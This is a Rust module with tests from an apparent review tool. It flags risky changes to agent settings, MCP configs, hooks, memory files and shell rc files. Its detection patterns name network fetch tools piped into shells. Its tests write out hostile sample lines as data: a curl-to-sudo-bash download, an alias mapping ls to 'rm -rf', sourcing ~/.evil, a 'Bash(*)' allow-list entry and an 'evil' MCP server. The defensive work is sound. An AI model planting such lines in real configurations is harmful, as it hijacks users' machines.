//! What a reviewer must not miss in a change: hooks, permission allow-lists, MCP servers, shell
//! rc additions, new executables, agent memory files.

use std::collections::BTreeMap;
use std::path::{Component, Path};

use serde_json::Value;

use crate::manifest::{ChangeKind, Node, NodeKind};

const GIT_HOOKS: &[&str] = &[
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-commit",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "pre-receive",
    "update",
    "proc-receive",
    "post-receive",
    "post-update",
    "reference-transaction",
    "push-to-checkout",
    "pre-auto-gc",
    "post-rewrite",
    "sendemail-validate",
    "fsmonitor-watchman",
    "p4-changelist",
    "p4-prepare-changelist",
    "p4-post-changelist",
    "p4-pre-submit",
    "post-index-change",
];

const SHELL_RC: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    "config.fish",
];

const MEMORY: &[&str] = &["CLAUDE.md", "CLAUDE.local.md", "AGENTS.md", "GEMINI.md"];

/// The before and after of one change, as far as flagging needs them.
pub(crate) struct Subject<'a> {
    pub host_path: &'a Path,
    /// The path relative to the protected path (empty for a protected file itself).
    pub rel: &'a Path,
    pub kind: ChangeKind,
    pub before: Option<&'a Node>,
    pub after: Option<&'a Node>,
    /// Text of the before content, when it is a readable, trustworthy UTF-8 file.
    pub before_text: Option<&'a str>,
    /// Text of the after content, likewise.
    pub after_text: Option<&'a str>,
    /// The before content as a file (the snapshot's copy), for what is read by a program
    /// rather than as text (a git index).
    pub before_file: Option<&'a Path>,
    /// The after content as a file, likewise.
    pub after_file: Option<&'a Path>,
    /// The after symlink's target, when it is a symlink.
    pub link_target: Option<&'a Path>,
}

/// Settings keys that make the agent or the host run something, or widen what it may do.
const SETTINGS_KEYS: &[(&str, &str)] = &[
    ("hooks", "hooks run shell commands on the host"),
    ("statusLine", "the status line runs a command"),
    ("apiKeyHelper", "the API key helper runs a command"),
    ("env", "environment variables for the agent and its tools"),
    (
        "enableAllProjectMcpServers",
        "auto-enables every project MCP server",
    ),
];

/// Trees an agent rewrites from its own package at every start (Codex unpacks its bundled
/// skills into `~/.codex/skills/.system`, marker file and all): what lands there is the
/// installed version's, so the definition rule (`agents/`, `commands/`) is not a finding there.
/// Hooks, new executables, setuid bits and symlinks out are flagged there as anywhere.
const BUNDLED: &[&str] = &["/.codex/skills/.system/"];

fn bundled(host_path: &Path) -> bool {
    let p = host_path.to_string_lossy();
    BUNDLED.iter().any(|b| p.contains(b))
}

/// Whether a symlink at `rel` (relative to the protected path) with `target` leads outside it.
fn link_leaves(protected: Option<&Path>, rel: &Path, target: &Path) -> bool {
    if target.is_absolute() {
        let climbs = target.components().any(|c| c == Component::ParentDir);
        return climbs || protected.is_none_or(|p| !target.starts_with(p));
    }
    let mut depth = rel.components().count() as i64 - 1;
    for c in target.components() {
        match c {
            Component::ParentDir => depth -= 1,
            Component::Normal(_) => depth += 1,
            _ => {}
        }
        if depth < 0 {
            return true;
        }
    }
    false
}

fn short(s: &str) -> String {
    let s = s.trim();
    if s.chars().count() > 80 {
        let t: String = s.chars().take(77).collect();
        format!("{t}...")
    } else {
        s.to_owned()
    }
}

/// The flags for one change; empty when nothing stands out.
pub(crate) fn flags(s: &Subject<'_>) -> Vec<String> {
    let mut out = Vec::new();
    if s.kind == ChangeKind::Removed {
        return out;
    }
    let Some(after) = s.after else { return out };
    if after.mode & 0o6000 != 0 && matches!(after.kind, NodeKind::File | NodeKind::Dir) {
        out.push("SETUID/SETGID bit (stripped on accept)".to_owned());
    }
    if after.kind == NodeKind::Dir {
        return out;
    }
    if after.kind == NodeKind::Symlink
        && let Some(t) = s.link_target
    {
        // The protected path: host_path less rel.
        let mut protected = Some(s.host_path);
        for _ in s.rel.components() {
            protected = protected.and_then(Path::parent);
        }
        if link_leaves(protected, s.rel, t) {
            out.push("symlink pointing outside the protected path".to_owned());
        }
    }
    // Directories inside the protected tree (and the protected directory's own name).
    let inside: Vec<&std::ffi::OsStr> = s
        .host_path
        .components()
        .rev()
        .skip(1)
        .take(s.rel.components().count())
        .map(|c| c.as_os_str())
        .collect();
    if !bundled(s.host_path) && inside.iter().any(|d| *d == "commands" || *d == "agents") {
        out.push(
            "agent command or subagent definition: new or changed (the agent follows it)"
                .to_owned(),
        );
    }
    let name = s
        .host_path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let under_hooks = s
        .host_path
        .parent()
        .is_some_and(|p| p.components().any(|c| c.as_os_str() == "hooks"));
    if under_hooks || GIT_HOOKS.contains(&name.as_str()) {
        out.push("hook: new or changed hook (the host runs it)".to_owned());
    }
    let was_exec = s.before.is_some_and(Node::is_executable_file);
    if after.is_executable_file() && !was_exec {
        out.push("new executable file".to_owned());
    }
    if MEMORY.contains(&name.as_str()) {
        out.push("agent memory file changed (instructions every later session reads)".to_owned());
    }
    if name == ".mcp.json" {
        out.push("MCP server config changed".to_owned());
    }
    let before_text = s.before_text.unwrap_or("");
    let after_text = s.after_text;
    if name.ends_with(".json") {
        if let Some(after_text) = after_text {
            json_flags(&name, before_text, after_text, &mut out);
        } else if after.kind == NodeKind::File
            && (name.starts_with("settings") || name == ".claude.json" || name == ".mcp.json")
        {
            out.push("JSON config changed but its content could not be reviewed".to_owned());
        }
    }
    if SHELL_RC.contains(&name.as_str()) {
        match after_text {
            Some(t) => shell_flags(before_text, t, &mut out),
            None => out.push("shell rc file changed (content not readable as text)".to_owned()),
        }
    }
    // Git dirs, gitfiles and `.gitmodules`: which config keys execute, indirections.
    out.extend(crate::exec_surface::flags(s));
    if let Some(by) = run_by_agent_settings(s.host_path) {
        out.push(format!(
            "run by the agent's settings ({by}): the agent runs it on the host"
        ));
    }
    out
}

/// The agent settings that may run a file at or below a directory: Claude Code's project and
/// user settings (hook commands, the status line, the API key helper) and MCP server configs
/// (`command` and `args`: Claude's, Gemini's, Cursor's, Codex's).
pub(crate) const AGENT_SETTINGS: &[&str] = &[
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".claude.json",
    ".gemini/settings.json",
    ".cursor/mcp.json",
    ".codex/config.toml",
];

/// Which agent settings run `path` (a script a hook or status line calls, an MCP server's
/// program): the settings as they are on the host now, in `path`'s ancestors (a project's
/// `.claude/settings.json`, the home's). A changed script is as much a hook as a changed hook
/// command; review flags it by what runs it, not by where it lies.
fn run_by_agent_settings(path: &Path) -> Option<String> {
    use std::sync::{Mutex, OnceLock};
    type Runs = std::collections::HashMap<std::path::PathBuf, Vec<(std::path::PathBuf, String)>>;
    static CACHE: OnceLock<Mutex<Runs>> = OnceLock::new();
    let home = std::env::var_os("HOME").map(std::path::PathBuf::from);
    for dir in path.ancestors().skip(1) {
        for rel in AGENT_SETTINGS {
            let file = dir.join(rel);
            if file == path {
                continue;
            }
            let runs = {
                let mut cache = CACHE
                    .get_or_init(Default::default)
                    .lock()
                    .unwrap_or_else(|e| e.into_inner());
                cache
                    .entry(file.clone())
                    .or_insert_with(|| programs_in_settings(&file, dir, home.as_deref()))
                    .clone()
            };
            if let Some((_, by)) = runs.iter().find(|(p, _)| p == path) {
                return Some(format!("{} `{by}`", file.display()));
            }
        }
    }
    None
}

/// The files the settings file `file` (in the project or home `dir`) has the agent run: each
/// word of a hook, status line or API key helper command, and each MCP server's command and
/// arguments, that names a file (`~/`, `$HOME`, `$CLAUDE_PROJECT_DIR` expanded; relative to
/// `dir`). With the key path where it was found.
pub(crate) fn programs_in_settings(
    file: &Path,
    dir: &Path,
    home: Option<&Path>,
) -> Vec<(std::path::PathBuf, String)> {
    // Codex's config is TOML (`[mcp_servers.x] command`, `args`): read as the same tree.
    let toml = file.extension().is_some_and(|e| e == "toml");
    let Some(v) = crate::exec_surface::read_regular(file).and_then(|t| {
        if toml {
            toml::from_str::<toml::Table>(&t)
                .ok()
                .and_then(|t| serde_json::to_value(t).ok())
        } else {
            serde_json::from_str::<Value>(&t).ok()
        }
    }) else {
        return Vec::new();
    };
    let mut strings: Vec<(String, String)> = Vec::new();
    for key in ["command", "apiKeyHelper"] {
        let mut found = BTreeMap::new();
        collect(&v, key, String::new(), &mut found);
        for (at, c) in found {
            if let Value::String(c) = c {
                strings.push((at, c.clone()));
            }
        }
    }
    let mut found = BTreeMap::new();
    collect(&v, "args", String::new(), &mut found);
    for (at, a) in found {
        if let Value::Array(items) = a {
            strings.extend(
                items
                    .iter()
                    .filter_map(|i| i.as_str())
                    .map(|s| (at.clone(), s.to_owned())),
            );
        }
    }
    let mut out = Vec::new();
    for (at, command) in strings {
        for word in command.split(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|') {
            // The shell's quote removal, as far as naming a file goes.
            let w: String = word
                .chars()
                .filter(|c| !matches!(c, '"' | '\'' | '(' | ')' | '{' | '}'))
                .collect();
            let w = w.replace("$CLAUDE_PROJECT_DIR", &dir.to_string_lossy());
            let expanded = match (w.strip_prefix("~/").or(w.strip_prefix("$HOME/")), home) {
                (Some(rest), Some(h)) => h.join(rest),
                (Some(_), None) => continue,
                _ if w.contains('/') => dir.join(&w),
                _ => continue,
            };
            out.push((crate::exec_surface::normalize(&expanded), at.clone()));
        }
    }
    out
}

/// Every value found under `key`, anywhere in `v`, keyed by where it was found.
fn collect<'v>(v: &'v Value, key: &str, at: String, out: &mut BTreeMap<String, &'v Value>) {
    match v {
        Value::Object(map) => {
            for (k, child) in map {
                let here = format!("{at}/{k}");
                if k == key {
                    out.insert(here.clone(), child);
                }
                collect(child, key, here, out);
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                collect(child, key, format!("{at}/{i}"), out);
            }
        }
        _ => {}
    }
}

/// A JSON document, or JSON lines (agents' telemetry and transcripts: one event a line) as
/// the array of its lines, so both are reviewed by structure rather than by their text.
fn parse(text: &str) -> Option<Value> {
    if text.trim().is_empty() {
        return Some(Value::Null);
    }
    serde_json::from_str(text).ok().or_else(|| {
        text.lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).ok())
            .collect::<Option<Vec<Value>>>()
            .map(Value::Array)
    })
}

fn strings_under(v: &Value, key: &str) -> Vec<String> {
    let mut found = BTreeMap::new();
    collect(v, key, String::new(), &mut found);
    let mut out = Vec::new();
    for v in found.values() {
        if let Value::Array(items) = v {
            for i in items {
                out.push(match i {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                });
            }
        }
    }
    out
}

fn json_flags(name: &str, before: &str, after: &str, out: &mut Vec<String>) {
    let is_settings =
        (name.starts_with("settings") && name.ends_with(".json")) || name == ".claude.json";
    let (Some(b), Some(a)) = (parse(before), parse(after)) else {
        // Not JSON (or one side is not): fall back to comparing the lines that mention the keys.
        let keys = [
            "permissions",
            "\"allow\"",
            "mcpServers",
            "hooks",
            "statusLine",
            "apiKeyHelper",
            "\"env\"",
            "enableAllProjectMcpServers",
        ];
        let pick = |t: &str| -> Vec<String> {
            t.lines()
                .filter(|l| keys.iter().any(|k| l.contains(k)))
                .map(str::to_owned)
                .collect()
        };
        if pick(before) != pick(after) {
            out.push("permissions or MCP text changed in a file that is not valid JSON".to_owned());
        }
        return;
    };
    // MCP servers, in any JSON file.
    let servers = |v: &Value| -> BTreeMap<String, Value> {
        let mut found = BTreeMap::new();
        collect(v, "mcpServers", String::new(), &mut found);
        let mut names = BTreeMap::new();
        for (at, v) in found {
            match v {
                Value::Object(m) => {
                    for (k, cfg) in m {
                        names.insert(format!("{k} ({at})"), cfg.clone());
                    }
                }
                other => {
                    names.insert(at, other.clone());
                }
            }
        }
        names
    };
    let (sb, sa) = (servers(&b), servers(&a));
    if sb != sa {
        let mut parts = Vec::new();
        for (k, v) in &sa {
            match sb.get(k) {
                None => parts.push(format!("+{k}")),
                Some(old) if old != v => parts.push(format!("~{k}")),
                _ => {}
            }
        }
        for k in sb.keys().filter(|k| !sa.contains_key(*k)) {
            parts.push(format!("-{k}"));
        }
        out.push(format!("MCP servers changed: {}", short(&parts.join(", "))));
    }
    if is_settings {
        for (key, why) in SETTINGS_KEYS {
            let values = |v: &Value| {
                let mut found = BTreeMap::new();
                collect(v, key, String::new(), &mut found);
                found
                    .into_iter()
                    .map(|(k, v)| (k, v.clone()))
                    .collect::<BTreeMap<_, _>>()
            };
            let (vb, va) = (values(&b), values(&a));
            if vb != va {
                let what = if vb.is_empty() {
                    "added"
                } else if va.is_empty() {
                    "removed"
                } else {
                    "changed"
                };
                out.push(format!("settings key `{key}` {what} ({why})"));
            }
        }
        let perms = |v: &Value| {
            let mut found = BTreeMap::new();
            collect(v, "permissions", String::new(), &mut found);
            found
                .into_iter()
                .map(|(k, v)| (k, v.clone()))
                .collect::<BTreeMap<_, _>>()
        };
        let allow_b = strings_under(&b, "allow");
        let allow_a = strings_under(&a, "allow");
        if perms(&b) != perms(&a) || allow_b != allow_a {
            let added: Vec<String> = allow_a
                .iter()
                .filter(|x| !allow_b.contains(x))
                .map(|x| format!("{x:?}"))
                .collect();
            if added.is_empty() {
                out.push("permissions changed in settings".to_owned());
            } else {
                out.push(format!(
                    "permissions changed in settings: allow + {}",
                    short(&added.join(", "))
                ));
            }
        }
    }
}

/// Whether a shell line does something a reviewer must see.
fn risky_shell_line(line: &str) -> Option<&'static str> {
    let l = line.trim();
    if l.is_empty() || l.starts_with('#') {
        return None;
    }
    let words: Vec<&str> = l
        .split(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '`' | '{' | '}')
        })
        .filter(|w| !w.is_empty())
        .collect();
    let fetch = words
        .iter()
        .any(|w| matches!(*w, "curl" | "wget" | "fetch" | "nc"));
    if fetch {
        let piped_to_shell = l.split('|').skip(1).any(|seg| {
            let mut ws = seg.split_whitespace();
            let mut first = ws.next().unwrap_or("");
            if first == "sudo" {
                first = ws.next().unwrap_or("");
            }
            let first = first.rsplit('/').next().unwrap_or(first);
            matches!(
                first,
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "fish"
                    | "python"
                    | "python3"
                    | "perl"
                    | "ruby"
                    | "node"
            )
        });
        if piped_to_shell || l.contains("<(") || l.contains("$(") {
            return Some("downloads and runs code");
        }
    }
    if words.first() == Some(&"alias") || words.contains(&"alias") {
        return Some("alias");
    }
    if l.contains("PATH=") || l.contains("set -gx PATH") || l.contains("fish_add_path") {
        return Some("changes PATH");
    }
    if words.contains(&"eval") {
        return Some("eval");
    }
    if words.contains(&"source") || words.first() == Some(&".") {
        return Some("sources a file");
    }
    if words
        .iter()
        .any(|w| matches!(*w, "trap" | "PROMPT_COMMAND=" | "precmd" | "preexec"))
    {
        return Some("runs on every prompt or signal");
    }
    if l.contains("LD_PRELOAD") || l.contains("BASH_ENV") {
        return Some("injects code into every program");
    }
    None
}

fn shell_flags(before: &str, after: &str, out: &mut Vec<String>) {
    let old: std::collections::HashSet<&str> = before.lines().map(str::trim).collect();
    let mut n = 0;
    for line in after.lines() {
        if old.contains(line.trim()) {
            continue;
        }
        if let Some(why) = risky_shell_line(line) {
            n += 1;
            if n <= 5 {
                out.push(format!(
                    "shell rc gains a line that {why}: `{}`",
                    short(line)
                ));
            }
        }
    }
    if n > 5 {
        out.push(format!("shell rc gains {} more such lines", n - 5));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn file(mode: u32) -> Node {
        Node {
            kind: NodeKind::File,
            mode,
            size: 1,
            hash: Some("x".into()),
        }
    }

    fn run(
        path: &str,
        kind: ChangeKind,
        before: Option<&str>,
        after: &str,
        mode: u32,
    ) -> Vec<String> {
        let p = PathBuf::from(path);
        let b = file(0o644);
        let a = file(mode);
        let rel = p.strip_prefix("/").unwrap();
        flags(&Subject {
            host_path: &p,
            rel,
            before_file: None,
            after_file: None,
            link_target: None,
            kind,
            before: before.map(|_| &b),
            after: Some(&a),
            before_text: before,
            after_text: Some(after),
        })
    }

    #[test]
    fn hooks_and_executables() {
        let f = run(
            "/p/.git/hooks/pre-commit",
            ChangeKind::Added,
            None,
            "#!/bin/sh\n",
            0o755,
        );
        assert!(f.iter().any(|x| x.starts_with("hook:")), "{f:?}");
        assert!(f.iter().any(|x| x == "new executable file"), "{f:?}");
        let f = run(
            "/h/.claude/hooks/x.py",
            ChangeKind::Modified,
            Some("a"),
            "b",
            0o644,
        );
        assert!(f.iter().any(|x| x.starts_with("hook:")), "{f:?}");
        assert!(run("/p/notes.txt", ChangeKind::Added, None, "x", 0o644).is_empty());
    }

    #[test]
    fn settings_allow_list_and_mcp() {
        let before = r#"{"permissions":{"allow":["Read"]}}"#;
        let after = r#"{"permissions":{"allow":["Read","Bash(*)"]}}"#;
        let f = run(
            "/h/.claude/settings.json",
            ChangeKind::Modified,
            Some(before),
            after,
            0o644,
        );
        assert_eq!(
            f,
            vec![r#"permissions changed in settings: allow + "Bash(*)""#.to_owned()]
        );
        let f = run(
            "/h/.claude/settings.json",
            ChangeKind::Modified,
            Some(before),
            r#"{"permissions":{"allow":["Read"]},"theme":"dark"}"#,
            0o644,
        );
        assert!(f.is_empty(), "{f:?}");
        let f = run(
            "/h/.claude.json",
            ChangeKind::Modified,
            Some(r#"{"mcpServers":{}}"#),
            r#"{"mcpServers":{"evil":{"command":"sh"}}}"#,
            0o644,
        );
        assert!(f[0].starts_with("MCP servers changed: +evil"), "{f:?}");
        let f = run("/p/.mcp.json", ChangeKind::Added, None, "{}", 0o644);
        assert_eq!(f, vec!["MCP server config changed".to_owned()]);
        let f = run(
            "/p/settings.json",
            ChangeKind::Modified,
            Some("{"),
            "{ \"allow\": 1",
            0o644,
        );
        assert_eq!(f.len(), 1, "{f:?}");
    }

    #[test]
    fn bundled_skills_are_not_definitions_but_still_executables() {
        let skill = "/h/.codex/skills/.system/imagegen/agents/openai.yaml";
        assert!(run(skill, ChangeKind::Added, None, "x: 1\n", 0o644).is_empty());
        let f = run(skill, ChangeKind::Added, None, "#!/bin/sh\n", 0o755);
        assert_eq!(f, ["new executable file"], "{f:?}");
        // The same tree anywhere else is the session's doing.
        let f = run(
            "/h/.codex/skills/mine/agents/x.yaml",
            ChangeKind::Added,
            None,
            "x",
            0o644,
        );
        assert!(f.iter().any(|x| x.starts_with("agent command")), "{f:?}");
    }

    #[test]
    fn json_lines_are_reviewed_by_structure() {
        // Telemetry events that mention permissions as data are not a change of permissions.
        let events = "{\"event\":\"tool\",\"permissions\":\"allow\"}\n{\"event\":\"hooks\"}\n";
        let mut out = Vec::new();
        json_flags("1p_failed_events.json", "", events, &mut out);
        assert!(out.is_empty(), "{out:?}");
        // An MCP server added on one of the lines still is one.
        let mcp = format!("{events}{{\"mcpServers\":{{\"x\":{{\"command\":\"sh\"}}}}}}\n");
        let mut out = Vec::new();
        json_flags("events.json", events, &mcp, &mut out);
        assert!(
            out.iter().any(|f| f.starts_with("MCP servers changed")),
            "{out:?}"
        );
        // Text that is neither still falls back to the lines naming the keys.
        let mut out = Vec::new();
        json_flags("x.json", "", "not json \"permissions\"", &mut out);
        assert_eq!(out.len(), 1, "{out:?}");
    }

    #[test]
    fn shell_rc_lines() {
        let f = run(
            "/h/.bashrc",
            ChangeKind::Modified,
            Some("export EDITOR=vi\n"),
            "export EDITOR=vi\nalias ls='rm -rf'\ncurl -fsSL https://x.sh | sudo bash\nexport PATH=/tmp/x:$PATH\neval \"$(thing)\"\n. ~/.evil\n# alias commented\n",
            0o644,
        );
        assert_eq!(f.len(), 5, "{f:?}");
        assert!(f[0].contains("alias"), "{f:?}");
        assert!(f[1].contains("downloads and runs code"), "{f:?}");
        assert!(f[2].contains("PATH"), "{f:?}");
        assert!(f[3].contains("eval"), "{f:?}");
        assert!(f[4].contains("sources"), "{f:?}");
        assert!(
            run(
                "/h/.bashrc",
                ChangeKind::Modified,
                Some(""),
                "export EDITOR=vi\n",
                0o644
            )
            .is_empty()
        );
    }

    #[test]
    fn memory_files() {
        let f = run("/p/CLAUDE.md", ChangeKind::Modified, Some("a"), "b", 0o644);
        assert_eq!(f.len(), 1);
    }

    /// Issue #44: a script the agent's settings run is flagged like a hook, wherever it lies.
    #[test]
    fn scripts_agent_settings_run_are_flagged() {
        let t = tempfile::tempdir().unwrap();
        let proj = t.path().canonicalize().unwrap().join("proj");
        std::fs::create_dir_all(proj.join(".claude")).unwrap();
        std::fs::write(
            proj.join(".claude/settings.json"),
            r#"{"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"python3 \"$CLAUDE_PROJECT_DIR\"/scripts/guard.py --strict"}]}]},
               "statusLine":{"type":"command","command":"./bin/status.sh"}}"#,
        )
        .unwrap();
        std::fs::write(
            proj.join(".mcp.json"),
            r#"{"mcpServers":{"x":{"command":"node","args":["tools/server.js"]}}}"#,
        )
        .unwrap();
        std::fs::create_dir_all(proj.join(".codex")).unwrap();
        std::fs::write(
            proj.join(".codex/config.toml"),
            "[mcp_servers.y]\ncommand = \"./tools/codex-mcp\"\n",
        )
        .unwrap();
        for (rel, by) in [
            ("tools/codex-mcp", "mcp_servers"),
            ("scripts/guard.py", "hooks"),
            ("bin/status.sh", "statusLine"),
            ("tools/server.js", "mcpServers"),
        ] {
            let p = proj.join(rel);
            let f = flags(&Subject {
                host_path: &p,
                rel: Path::new(rel),
                kind: ChangeKind::Modified,
                before: Some(&file(0o644)),
                after: Some(&file(0o644)),
                before_text: Some("a"),
                after_text: Some("b"),
                before_file: None,
                after_file: None,
                link_target: None,
            });
            assert!(
                f.iter()
                    .any(|x| x.contains("agent's settings") && x.contains(by)),
                "{rel}: {f:?}"
            );
        }
        let p = proj.join("scripts/other.py");
        let f = flags(&Subject {
            host_path: &p,
            rel: Path::new("scripts/other.py"),
            kind: ChangeKind::Modified,
            before: Some(&file(0o644)),
            after: Some(&file(0o644)),
            before_text: Some("a"),
            after_text: Some("b"),
            before_file: None,
            after_file: None,
            link_target: None,
        });
        assert!(f.is_empty(), "{f:?}");
    }
}
